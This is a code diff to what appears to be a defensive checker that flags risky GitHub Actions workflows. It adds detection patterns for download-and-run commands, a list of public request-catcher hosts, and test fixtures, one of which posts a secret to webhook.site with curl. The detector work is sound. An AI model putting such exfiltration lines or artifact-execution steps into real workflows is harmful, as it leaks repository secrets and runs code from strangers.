@@ -30,7 +30,31 @@ _CHECKOUT = re.compile(
 
 _STEP = re.compile(r"^[ \t]*-[ \t]+(?=[\w-]{1,40}[ \t]*:)", re.MULTILINE)
 _ALL_SECRETS = re.compile(r"\$\{\{[^{}]{0,80}\btoJSON\s{0,3}\(\s{0,3}secrets\s{0,3}\)", re.IGNORECASE)
-_FETCHED = re.compile(r"\b(?:curl|wget)\b[^\n|]{0,300}\|[ \t]{0,5}(?:sudo[ \t]{1,3})?(?:ba|z|da)?sh\b")
+_FETCHED = re.compile(
+    r"\b(?:curl|wget)\b[^\n|]{0,300}\|[ \t]{0,5}(?:sudo[ \t]{1,3}(?:-\w{1,3}[ \t]{1,3})?)?(?:/(?:usr/)?bin/)?(?:(?:ba|z|da)?sh\b|(?:python3?|perl|Rscript|node)(?:[ \t]{1,3}-)?[ \t]{0,5}(?=$|[\n;&\"']))"
+    r"|\b(?:ba|z|da)?sh[ \t]{1,3}(?:-c[ \t]{1,3})?[\"']?[<$]\([ \t]{0,3}(?:curl|wget)\b|\b(?:iex|Invoke-Expression)\b[^\n]{0,80}\b(?:iwr|irm|DownloadString|Invoke-(?:WebRequest|RestMethod))\b",
+    re.MULTILINE,
+)
+#: Places where everybody may drop something, and look at what others dropped.
+_CATCHES = re.compile(
+    r"\b(?:webhook\.site|requestbin|pipedream\.net|ngrok(?:-free)?\.(?:io|app|dev)|burpcollaborator|oast(?:ify)?\.(?:com|me|fun|live|pro|site|online)|interact\.sh|beeceptor\.com|hookb\.in|transfer\.sh|file\.io/|0x0\.st|pastebin\.com|paste\.rs|termbin\.com|requestcatcher|postb\.in|dnslog\.)",
+    re.IGNORECASE,
+)
+#: A secret that travels where everybody on the way reads it.
+_UNCLOSED = re.compile(
+    r"^(?=[^\n]{0,600}\$\{\{\s{0,5}secrets\.)[^\n]{0,300}\b(?:curl|wget|Invoke-(?:WebRequest|RestMethod))\b[^\n]{0,300}[\s\"'=]http://(?!localhost|127\.|\[::1|\$|host\.docker)",
+    re.IGNORECASE,
+)
+#: What another workflow left, which on a pull request a stranger's code made; and commands that run a file.
+_LEFT = re.compile(
+    r"^[^#\n]{0,200}(?:\buses[ \t]*:[ \t]*[\"']?[\w.-]{1,60}/[\w./-]{0,60}download[\w-]{0,10}artifact\w{0,10}|\bgh[ \t]+run[ \t]+download\b|\bdownloadArtifact\b)",
+    re.MULTILINE,
+)
+_RUN_FILE = re.compile(
+    r"(?:^|[\s;&|(])(?:(?:bash|sh|source|python3?|Rscript|node|perl)[ \t]{1,3}(?!-)(?:\./)?(?P<file>[\w./$-]{1,120})|\./(?P<own>[\w./$-]{1,120})|(?P<made>make|npm (?:ci|install|run)|pip install|R CMD INSTALL)\b)"
+)
+_OWN_CODE = re.compile(r"\buses[ \t]*:[ \t]*[\"']?actions/checkout@|\bgit clone\b")
+_LANDS = re.compile(r"^[ \t]*(?:path|name)[ \t]*:[ \t]*[\"']?(?:\./)?(?P<path>\w[\w./-]{0,100})", re.MULTILINE)
 #: A secret printed: the log hides it as it is, but not once it was changed (`| base64`), cut or turned round.
 _PRINTED = re.compile(
     r"(?:^|[;&|\s\"'])(?:echo|printf)\b[^\n>]{0,200}?\$\{\{\s{0,5}secrets\.[^{}\n]{1,80}\}\}(?P<after>[^\n]*)",
@@ -52,6 +76,7 @@ _ON_REQUESTS = re.compile(
     r"^[ \t]*[\"']?on[\"']?[ \t]*:.*\bpull_request\b(?!_)|^[ \t]{1,6}-?[ \t]*pull_request[ \t]*:?[ \t]*$", re.MULTILINE
 )
 _WRITE_ALL = re.compile(r"^[ \t]*[\"']?permissions[\"']?[ \t]*:[ \t]*[\"']?write-all\b", re.MULTILINE)
+_UNSEEN = "runs a script that is fetched unseen"
 _HANDED = "hands a secret to a script that is fetched and run unseen"
 
 
@@ -80,6 +105,9 @@ class WorkflowSafe(Check):
         },
         {".github/workflows/a.yml": "on: push\njobs:\n  a:\n    runs-on: self-hosted\n"},
         {
+            ".github/workflows/a.yml": "on:\n  workflow_run:\n    workflows: [b]\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/download-artifact@v4\n        with:\n          path: left\n      - run: python post.py left/report.json\n"
+        },
+        {
             ".github/workflows/a.yml": "on: push\njobs:\n  a:\n    uses: example-trust/ci/.github/workflows/r.yml@v1\n    secrets:\n      T: ${{ secrets.T }}\n"
         },
         {
@@ -103,6 +131,12 @@ class WorkflowSafe(Check):
             ".github/workflows/a.yml": "on: push\njobs:\n  a:\n    steps:\n      - uses: somebody/deploy@main\n        with:\n          key: ${{ secrets.KEY }}\n"
         },
         {".github/workflows/a.yml": "on: pull_request\njobs:\n  a:\n    runs-on: [self-hosted]\n"},
+        {
+            ".github/workflows/a.yml": "on:\n  workflow_run:\n    workflows: [b]\njobs:\n  a:\n    steps:\n      - uses: actions/download-artifact@v4\n        with:\n          path: left\n      - run: bash left/post.sh\n"
+        },
+        {
+            ".github/workflows/a.yml": "on: push\njobs:\n  a:\n    steps:\n      - run: curl -d k=${{ secrets.K }} https://webhook.site/1\n"
+        },
         {
             ".github/workflows/a.yml": "on: pull_request_target\njobs:\n  a:\n    steps:\n      - run: ./x\n        env:\n          A: ${{ toJSON(secrets) }}\n"
         },
@@ -153,6 +187,11 @@ def _dangers(path: str, text: str) -> Iterator[Evidence]:
     if given := _WRITE_ALL.search(text):
         line = text.count("\n", 0, given.end()) + 1
         yield Evidence(path=path, line=line, note="gives every step the right to change all of the repository")
+        for number, command in _commands(text):
+            if _FETCHED.search(command):
+                yield Evidence(path=path, line=number, note=f"{_UNSEEN}, with that right")
+    yield from _left(path, text)
+    yield from _sent(path, text)
     yield from _moving(path, text)
     if _ON_REQUESTS.search(text) and (own := _OWN_MACHINE.search(text)):
         line = text.count("\n", 0, own.end()) + 1
@@ -180,6 +219,38 @@ def _with_secrets(path: str, text: str) -> Iterator[Evidence]:
         for found in _ALL_SECRETS.finditer(text):
             if (line := text.count("\n", 0, found.end()) + 1) not in commanded:
                 yield Evidence(path=path, line=line, note="hands every secret to a run that strangers start")
+
+
+def _sent(path: str, text: str) -> Iterator[Evidence]:
+    """Secrets that leave for where others read them."""
+    if "secrets" not in text:
+        return
+    steps = [found.start() for found in _STEP.finditer(text)]
+    for start, end in pairwise([*steps, len(text)]):
+        if "secrets" in text[start:end] and (found := _CATCHES.search(text, start, end)):
+            line = text.count("\n", 0, found.start()) + 1
+            yield Evidence(path=path, line=line, note="sends a secret, or may, to a page that anybody may read")
+    for number, command in _commands(text):
+        if _UNCLOSED.search(command):
+            yield Evidence(path=path, line=number, note="sends a secret over a connection that is not encrypted")
+
+
+def _left(path: str, text: str) -> Iterator[Evidence]:
+    """A run with this repository's rights that starts a file which another run left, and a stranger may have made.
+
+    Where the repository's own code is there as well, only a file in the folder of what was left counts.
+    """
+    if not ("workflow_run" in text and _TRUSTED.search(text) and (left := _LEFT.search(text))):
+        return
+    line = text.count("\n", 0, left.end()) + 1
+    lands = {found["path"].rstrip("/") for found in _LANDS.finditer(text, left.end(), left.end() + 600)}
+    own = bool(_OWN_CODE.search(text))
+    for number, command in _commands(text):
+        if number <= line or not (run := _RUN_FILE.search(command)):
+            continue
+        file = run["file"] or run["own"] or ""
+        if not own or any(file == one or file.startswith(f"{one}/") for one in lands):
+            yield Evidence(path=path, line=number, note="runs what a stranger's pull request may have left")
 
 
 def _moving(path: str, text: str) -> Iterator[Evidence]:
